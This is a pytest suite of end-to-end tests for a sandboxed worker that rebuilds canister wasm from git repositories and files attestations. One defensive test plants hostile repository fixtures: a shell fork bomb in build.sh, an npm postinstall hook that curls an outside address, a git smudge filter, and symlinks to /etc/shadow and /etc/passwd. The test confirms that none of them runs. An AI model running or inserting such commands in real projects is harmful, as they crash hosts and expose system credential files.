"""The verifier worker end to end: canisters on the embedded replica over the IC HTTP interface, git
repositories served on loopback, builds in the sandbox on a real Docker daemon."""

from __future__ import annotations

import os
import signal
import subprocess
import sys
import time
import urllib.request
from pathlib import Path
from typing import Any

import pytest

from testkit.git_server import add_submodule, git
from testkit.protocol import AUDIT, DEV, GOV, IDENTITIES, REWARD, STAKE
from testkit.verifier import (
    HELLO,
    VERIFIER,
    Net,
    events,
    make_worker,
    principal,
    run_until_idle,
    sha,
)
from verifier_bot.journal import Journal
from verifier_bot.metrics import serve

ROOT = Path(__file__).resolve().parent.parent
BROKEN = "persistent actor {\n  public query func f() : async Nat { \"not a number\" };\n};\n"
OTHER_APP = HELLO.replace("Hello", "Howdy")


def only_filing(net: Net, wasm_id: str) -> dict[str, Any]:
    filings = net.filings(wasm_id)
    assert len(filings) == 1, filings
    filing = filings[0]
    assert filing["verifier"] == principal()
    filing["meta"] = {k: next(iter(v.values())) for k, v in filing["metadata"]}
    return filing


def outcome(net: Net, wasm_id: str) -> str | None:
    status = net.stack.status(wasm_id)
    return next(iter(status["outcome"][0])) if status["outcome"] else None


def test_verified_and_paid_two_jobs_at_once(net: Net, docker_host: str, builder_image: Any, tmp_path: Path) -> None:
    repo_a, commit_a, wasm_a = net.app_repo()
    repo_b, commit_b, wasm_b = net.app_repo(OTHER_APP)
    wasm_a_id, bounty_a = net.submit(wasm_a, repo_a, commit_a)
    wasm_b_id, bounty_b = net.submit(wasm_b, repo_b, commit_b)
    worker, log = make_worker(net, builder_image, docker_host, tmp_path / "state")
    server = serve("127.0.0.1:0", worker.metrics, worker.health)
    try:
        before = net.stack.balance(principal())
        run_until_idle(worker)
        for wasm_id, bounty_id in ((wasm_a_id, bounty_a), (wasm_b_id, bounty_b)):
            assert outcome(net, wasm_id) == "Verified"
            filing = only_filing(net, wasm_id)
            meta = filing["meta"]
            assert filing["attested"] and filing["bounty_id"] == bounty_id
            assert meta["126:found_hash"] == meta["126:expected_hash"] == wasm_id
            assert meta["126:image_digest"] == f"sha256:{builder_image.rootfs_digest}"
            assert meta["126:toolchain_digest"] == builder_image.toolchain_digest
            assert meta["126:worker_version"].startswith("prometheus-verifier/") and meta["126:build_ms"] > 0
        assert net.stack.balance(principal()) == before + 2 * REWARD
        profile = net.stack.profile(principal())
        assert dict(profile["available"])[AUDIT] == 10 * STAKE and profile["earnings"] == 2 * REWARD
        assert [j.state for j in worker.journal.jobs()] == ["filed", "filed"]
        # Real concurrency: both builds started before the first one finished.
        order = [e["event"] for e in events(log) if e["event"] in ("build_started", "build_finished")]
        assert order[:2] == ["build_started", "build_started"], order
        worker.tick()  # refresh the stake and earnings gauges
        port = server.server_address[1]
        metrics = urllib.request.urlopen(f"http://127.0.0.1:{port}/metrics").read().decode()
        assert 'prometheus_verifier_jobs_total{outcome="attested"} 2.0' in metrics
        assert "prometheus_verifier_build_seconds_count 2.0" in metrics
        assert f"prometheus_verifier_earnings {float(2 * REWARD)}" in metrics
        assert f"prometheus_verifier_stake_available {float(10 * STAKE)}" in metrics
        health = urllib.request.urlopen(f"http://127.0.0.1:{port}/healthz")
        assert health.status == 200 and b'"status": "ok"' in health.read()
    finally:
        server.shutdown()
        worker.close()


def test_every_deterministic_failure_is_a_divergence_with_its_reason(net: Net, docker_host: str,
                                                                     builder_image: Any, tmp_path: Path) -> None:
    repo, commit, wasm = net.app_repo()
    broken_repo, broken_commit, _ = net.repo({"src/main.mo": BROKEN})
    symlink_repo, symlink_commit, _ = net.repo({"README.md": "hi"},
                                               lambda work: (work / "src").mkdir() or
                                               os.symlink("/etc/passwd", work / "src" / "main.mo"))
    blob_repo, blob_commit, _ = net.repo({"src/main.mo": HELLO, "assets/big.bin": os.urandom(11 << 20)})
    cases = {
        "mismatch": (os.urandom(4000), repo, commit, "rebuilt wasm has sha256 " + sha(wasm)),
        "compile error": (os.urandom(4001), broken_repo, broken_commit, "src/main.mo:2:"),
        "malformed url": (os.urandom(4002), "http://user:secret@127.0.0.1/x.git", commit, "refusing repository URL"),
        "unknown commit": (os.urandom(4003), repo, "f" * 40, "cannot fetch commit"),
        "symlink to a host file": (os.urandom(4004), symlink_repo, symlink_commit, "entry point src/main.mo"),
        "huge blob": (os.urandom(4005), blob_repo, blob_commit, "over the 10485760-byte limit"),
    }
    submitted = {name: net.submit(wasm_bytes, r, c)[0] for name, (wasm_bytes, r, c, _) in cases.items()}
    worker, _ = make_worker(net, builder_image, docker_host, tmp_path / "state")
    try:
        run_until_idle(worker)
    finally:
        worker.close()
    for name, (_, _, _, reason) in cases.items():
        wasm_id = submitted[name]
        filing = only_filing(net, wasm_id)
        assert not filing["attested"], name
        assert reason in filing["report"][0], (name, filing["report"])
        assert outcome(net, wasm_id) == "Rejected", name
    assert only_filing(net, submitted["mismatch"])["meta"]["126:found_hash"] == sha(wasm)
    assert {j.state for j in worker.journal.jobs()} == {"filed"}


def test_hostile_repository_content_never_runs(net: Net, docker_host: str, builder_image: Any,
                                               tmp_path: Path) -> None:
    """Build scripts, npm hooks, a smudge filter, a submodule and a symlink to a host file: the recipe runs
    none of them, the fetch writes none of the links, and the honest source still verifies."""
    marker = tmp_path / "pwned"

    def hostile(work: Path) -> None:
        os.symlink("/etc/shadow", work / "shadow")
        git("config", "filter.evil.smudge", f"touch {marker}", cwd=work)
        add_submodule(work, "evil")

    files = {
        ".gitattributes": "*.mo filter=evil\n",
        "build.sh": f"#!/bin/sh\ntouch {marker}\n:(){{ :|:& }};:\n",
        "package.json": f'{{"scripts": {{"postinstall": "curl http://1.1.1.1/x; touch {marker}"}}}}',
        "Makefile": f"all:\n\ttouch {marker}\n",
    }
    repo, commit, wasm = net.app_repo(files=files, extra=hostile)
    wasm_id, _ = net.submit(wasm, repo, commit)
    worker, _ = make_worker(net, builder_image, docker_host, tmp_path / "state")
    try:
        run_until_idle(worker)
    finally:
        worker.close()
    filing = only_filing(net, wasm_id)
    assert filing["attested"] and outcome(net, wasm_id) == "Verified"
    assert "shadow (symlink)" in filing["meta"]["126:skipped_entries"]
    assert "evil (submodule)" in filing["meta"]["126:skipped_entries"]
    assert not marker.exists()


def test_build_limits_become_divergences(net: Net, docker_host: str, builder_image: Any, tmp_path: Path) -> None:
    repo, commit, wasm = net.app_repo()
    wasm_id, _ = net.submit(wasm, repo, commit)
    worker, _ = make_worker(net, builder_image, docker_host, tmp_path / "slow", build_timeout_s=1.0)
    try:
        run_until_idle(worker)
    finally:
        worker.close()
    assert "build timed out after 1 s" in only_filing(net, wasm_id)["report"][0]

    repo2, commit2, wasm2 = net.app_repo(OTHER_APP)
    wasm2_id, _ = net.submit(wasm2, repo2, commit2)
    stack = net.stack
    stack.stake(principal("verifier2"))
    worker, _ = make_worker(net, builder_image, docker_host, tmp_path / "small", role="verifier2",
                            build_memory_mb=256)
    try:
        run_until_idle(worker)
    finally:
        worker.close()
    filings = net.filings(wasm2_id)
    assert len(filings) == 1 and "ran out of memory (256 MiB)" in filings[0]["report"][0], filings


def test_transient_failures_retry_and_file_nothing(net: Net, docker_host: str, builder_image: Any,
                                                   tmp_path: Path) -> None:
    repo, commit, wasm = net.app_repo()
    unreachable = [net.submit(os.urandom(5000 + i), "http://127.0.0.1:9/gone.git", commit)[0] for i in range(2)]
    worker, _ = make_worker(net, builder_image, docker_host, tmp_path / "a", max_concurrent_jobs=1,
                            source_retries=2)
    try:
        worker.run_once()
        (job,) = worker.journal.jobs()  # the job in backoff holds the only slot: the second is not reserved
        assert job.state == "reserved" and job.attempts == 1 and "cannot reach" in (job.last_error or "")
        assert job.next_attempt > time.time() and all(net.filings(w) == [] for w in unreachable)
        worker.tick()
        assert len(worker.journal.jobs()) == 1
        # The repository stays unreachable: after SOURCE_RETRIES attempts that is the verdict, not a slashing.
        worker.journal.update(job.bounty_id, next_attempt=0)
        worker.run_once()
        assert worker.journal.get(job.bounty_id).state == "filed"  # type: ignore[union-attr]
        assert "stayed unreachable for 2 attempts" in only_filing(net, job.wasm_id)["report"][0]
    finally:
        worker.close()

    # Docker down: the job waits for it, and a later pass with Docker back files the right verdict.
    wasm_id, _ = net.submit(wasm, repo, commit)
    net.stack.stake(principal("verifier3"))

    def docker_down() -> Any:
        raise ConnectionError("docker socket refused the connection")

    worker, _ = make_worker(net, builder_image, docker_host, tmp_path / "b", role="verifier3",
                            docker_factory=docker_down, max_concurrent_jobs=2)
    try:
        worker.run_once()
    finally:
        worker.close()
    jobs = {j.wasm_id: j for j in worker.journal.jobs()}
    assert jobs[wasm_id].state == "reserved" and "docker is unavailable" in (jobs[wasm_id].last_error or "")
    assert net.filings(wasm_id) == []
    worker.journal.update(jobs[wasm_id].bounty_id, next_attempt=0)
    worker, _ = make_worker(net, builder_image, docker_host, tmp_path / "b", role="verifier3", max_concurrent_jobs=1)
    try:
        worker.run_once()
    finally:
        worker.close()
    assert net.filings(wasm_id)[0]["attested"] and worker.journal.get(jobs[wasm_id].bounty_id).state == "filed"

    # The replica unreachable: the poll fails, health says so, nothing is journaled.
    offline, _ = make_worker(net, builder_image, docker_host, tmp_path / "c")
    offline.config = offline.config.__class__(**{**offline.config.__dict__, "registry_id": "aaaaa-aa"})
    offline.tick()
    ok, body = offline.health()
    assert not ok and body["last_error"] and offline.journal.jobs() == []
    offline.close()


def test_never_files_after_the_lock_expires(net: Net, docker_host: str, builder_image: Any,
                                            tmp_path: Path) -> None:
    assert "ok" in net.stack.hub("set_policy", {"lock_duration_ns": 3 * 10**9, "stake_per_reservation": STAKE},
                                 sender=GOV)
    repo, commit, wasm = net.app_repo()
    wasm_id, bounty_id = net.submit(wasm, repo, commit)
    worker, log = make_worker(net, builder_image, docker_host, tmp_path / "state", file_margin_s=2.5)
    try:
        worker.run_once()
    finally:
        worker.close()
    assert worker.journal.get(bounty_id).state == "expired"  # type: ignore[union-attr]
    assert net.filings(wasm_id) == []
    assert any(e["event"] == "lock_expired" for e in events(log))


def test_without_stake_nothing_is_reserved(net: Net, docker_host: str, builder_image: Any, tmp_path: Path) -> None:
    repo, commit, wasm = net.app_repo()
    wasm_id, bounty_id = net.submit(wasm, repo, commit)
    worker, log = make_worker(net, builder_image, docker_host, tmp_path / "state", role="verifier5")
    try:
        worker.run_once()
    finally:
        worker.close()
    warning = next(e for e in events(log) if e["event"] == "insufficient_stake")
    assert warning["available"] == 0 and warning["required"] == STAKE
    assert worker.journal.jobs() == [] and net.stack.hub("get_lock", bounty_id) == []
    assert worker.health()[0]  # polling worked; the operator has to add stake


def test_short_bounties_are_left_alone_and_one_worker_per_state_dir(net: Net, docker_host: str,
                                                                   builder_image: Any, tmp_path: Path) -> None:
    from verifier_bot.worker import StateDirBusy

    repo, commit, wasm = net.app_repo()
    wasm_id = net.stack.upload(wasm, namespace="com.example.short")
    assert "ok" in net.stack.registry("icrc126_verification_request", {
        "wasm_hash": bytes.fromhex(wasm_id), "repo": repo, "commit_hash": commit, "metadata": []}, sender=DEV)
    net.stack.bounty(wasm_id, timeout_ns=60 * 10**9)  # closes before a 300 s build and a filing could fit
    worker, _ = make_worker(net, builder_image, docker_host, tmp_path / "state")
    try:
        with pytest.raises(StateDirBusy, match="another worker"):
            make_worker(net, builder_image, docker_host, tmp_path / "state")
        worker.run_once()
        assert worker.journal.jobs() == []
    finally:
        worker.close()
    make_worker(net, builder_image, docker_host, tmp_path / "state")[0].close()  # the lock went with close()


def test_a_lock_the_journal_forgot_is_adopted_and_filed(net: Net, docker_host: str, builder_image: Any,
                                                        tmp_path: Path) -> None:
    """The journal (or the reply to reserve_bounty) was lost after the hub took our stake: the worker finds
    its own lock on the next poll and finishes the job instead of leaving it to be slashed."""
    repo, commit, wasm = net.app_repo()
    wasm_id, bounty_id = net.submit(wasm, repo, commit)
    assert "ok" in net.stack.reserve(principal(), bounty_id)
    worker, log = make_worker(net, builder_image, docker_host, tmp_path / "fresh-state")
    try:
        run_until_idle(worker)
    finally:
        worker.close()
    assert any(e["event"] == "adopted_lock" for e in events(log))
    assert only_filing(net, wasm_id)["attested"] and outcome(net, wasm_id) == "Verified"


def _pem(tmp_path: Path, role: str) -> Path:
    path = tmp_path / f"{role}.pem"
    path.write_bytes(IDENTITIES[role].to_pem())
    return path


def _wait_for(predicate: Any, timeout: float, what: str) -> None:
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        if predicate():
            return
        time.sleep(0.1)
    raise AssertionError(f"timed out waiting for {what}")


def _worker_process(net: Net, state: Path, pem: Path, docker_host: str, command: str = "run") -> subprocess.Popen:
    env = {**os.environ, "DOCKER_HOST": docker_host, **net.env(state, pem)}
    return subprocess.Popen([sys.executable, "-m", "verifier_bot", command], env=env, cwd=ROOT,
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)


def _building(docker_client: Any) -> bool:
    builds = docker_client.containers.list(filters={"label": "io.prometheus.role=build"})
    return any(c.labels["io.prometheus.owner"].startswith(f"{principal()}/") for c in builds)


def test_killed_mid_build_resumes_and_files_exactly_once(net: Net, docker_host: str, docker_client: Any,
                                                         builder_image: Any, tmp_path: Path) -> None:
    repo, commit, wasm = net.app_repo()
    wasm_id, bounty_id = net.submit(wasm, repo, commit)
    state, pem = tmp_path / "state", _pem(tmp_path, VERIFIER)
    proc = _worker_process(net, state, pem, docker_host)
    try:
        _wait_for(lambda: _building(docker_client), 60, "the build container")
        proc.kill()
        proc.wait(10)
    finally:
        if proc.poll() is None:
            proc.kill()
    journal = Journal(state / "journal.sqlite3")
    assert journal.get(bounty_id).state == "reserved"  # type: ignore[union-attr]
    assert net.filings(wasm_id) == []
    done = _worker_process(net, state, pem, docker_host, "once")
    out, err = done.communicate(timeout=300)
    assert done.returncode == 0, err
    assert journal.get(bounty_id).state == "filed"  # type: ignore[union-attr]
    assert '"leftover_containers_removed": 1' in err or not _building(docker_client)
    filings = net.filings(wasm_id)
    assert len(filings) == 1 and filings[0]["attested"]
    assert net.stack.block_types().count("126attest") == 1
    # A third start finds nothing to do and files nothing again.
    again = _worker_process(net, state, pem, docker_host, "once")
    again.communicate(timeout=120)
    assert len(net.filings(wasm_id)) == 1 and net.stack.block_types().count("126attest") == 1


def test_sigterm_finishes_the_job_in_flight(net: Net, docker_host: str, docker_client: Any, builder_image: Any,
                                            tmp_path: Path) -> None:
    repo, commit, wasm = net.app_repo()
    wasm_id, bounty_id = net.submit(wasm, repo, commit)
    state = tmp_path / "state"
    proc = _worker_process(net, state, _pem(tmp_path, VERIFIER), docker_host)
    try:
        _wait_for(lambda: _building(docker_client), 60, "the build container")
        proc.send_signal(signal.SIGTERM)
        _, err = proc.communicate(timeout=300)
    finally:
        if proc.poll() is None:
            proc.kill()
    assert proc.returncode == 0, err
    assert '"event": "stopping"' in err and '"event": "stopped"' in err
    assert Journal(state / "journal.sqlite3").get(bounty_id).state == "filed"  # type: ignore[union-attr]
    assert net.filings(wasm_id)[0]["attested"]


def test_doctor_checks_the_setup(net: Net, docker_host: str, builder_image: Any, tmp_path: Path) -> None:
    import json

    env = {**os.environ, "DOCKER_HOST": docker_host, **net.env(tmp_path / "state", _pem(tmp_path, VERIFIER))}
    proc = subprocess.run([sys.executable, "-m", "verifier_bot", "doctor", "--json"], env=env, cwd=ROOT,
                          capture_output=True, text=True, timeout=120)
    report = json.loads(proc.stdout)
    assert proc.returncode == 0 and report["ok"], report
    checks = {c["check"]: c for c in report["checks"]}
    assert set(checks) == {"config", "journal", "identity", "network", "registry", "stake", "docker", "image",
                           "sandbox"}
    assert "self-test build in" in checks["sandbox"]["detail"]
    assert str(principal()) in checks["identity"]["detail"] and builder_image.tag in checks["image"]["detail"]

    poor = {**env, "VERIFIER_PEM": str(_pem(tmp_path, "stranger"))}
    proc = subprocess.run([sys.executable, "-m", "verifier_bot", "doctor"], env=poor, cwd=ROOT,
                          capture_output=True, text=True, timeout=120)
    assert proc.returncode == 1 and "FAIL stake" in proc.stdout and "0 build_reproducibility_v1" in proc.stdout


@pytest.mark.parametrize(("env", "message"), [
    ({}, "missing VERIFIER_PEM, VERIFIER_REGISTRY_ID, VERIFIER_AUDIT_HUB_ID"),
    ({"POLL_INTERVAL_MS": "soon"}, "POLL_INTERVAL_MS must be a number"),
    ({"MAX_CONCURRENT_JOBS": "0"}, "MAX_CONCURRENT_JOBS must be between 1 and 64"),
    ({"VERIFIER_PEM": "/nonexistent.pem"}, "cannot read /nonexistent.pem"),
])
def test_bad_configuration_is_one_clear_error(env: dict[str, str], message: str, tmp_path: Path) -> None:
    base = {"VERIFIER_PEM": str(_pem(tmp_path, VERIFIER)), "VERIFIER_REGISTRY_ID": "aaaaa-aa",
            "VERIFIER_AUDIT_HUB_ID": "aaaaa-aa", "VERIFIER_STATE_DIR": str(tmp_path / "s")}
    clean = {k: v for k, v in os.environ.items() if not k.startswith(("VERIFIER_", "POLL_", "MAX_"))}
    full = {**clean, **(base if env else {}), **env}
    proc = subprocess.run([sys.executable, "-m", "verifier_bot", "once"], env=full, cwd=ROOT, capture_output=True,
                          text=True, timeout=60)
    assert proc.returncode == 1 and message in proc.stderr and "Traceback" not in proc.stderr, proc.stderr
